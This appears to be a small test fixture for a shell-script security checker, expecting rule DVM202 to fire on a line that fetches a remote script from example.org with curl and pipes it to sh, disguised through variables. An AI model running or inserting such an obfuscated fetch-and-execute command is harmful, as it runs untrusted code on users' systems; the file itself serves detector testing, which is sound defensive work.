# expect: DVM202
get=curl
runner=sh
$get -fsSL https://example.org/i.sh | $runner
